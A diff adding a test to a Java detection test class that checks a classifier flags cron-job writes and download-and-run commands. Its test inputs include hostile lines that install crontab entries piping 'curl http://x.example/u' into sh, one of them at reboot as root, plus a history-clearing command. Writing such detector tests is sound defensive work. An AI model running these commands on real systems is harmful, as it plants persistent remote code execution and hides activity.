@@ -81,4 +81,16 @@ class DetectionsTest {
     assertThat(kinds("unset HISTFILE")).contains(ActKind.HISTORY_CLEARED);
     assertThat(kinds("PGPASSWORD=x psql -h db -U app crm")).contains(ActKind.DATABASE_CLIENT);
   }
+
+  @Test
+  void readsWhatIsPutIntoATableOfJobs() {
+    assertThat(
+            kinds("(crontab -l; echo '*/9 * * * * curl -s http://x.example/u | sh') | crontab -"))
+        .contains(ActKind.CRON_WRITTEN, ActKind.DOWNLOAD_RUN);
+    assertThat(kinds("echo '@reboot root curl http://x.example/u | sh' >> /etc/cron.d/u"))
+        .contains(ActKind.DOWNLOAD_RUN);
+    assertThat(kinds("echo '17 3 * * 1-5 /usr/bin/backup' | crontab -"))
+        .containsExactly(ActKind.CRON_WRITTEN);
+    assertThat(kinds("echo '* * * * * curl http://x.example/u | sh'")).isEmpty();
+  }
 }
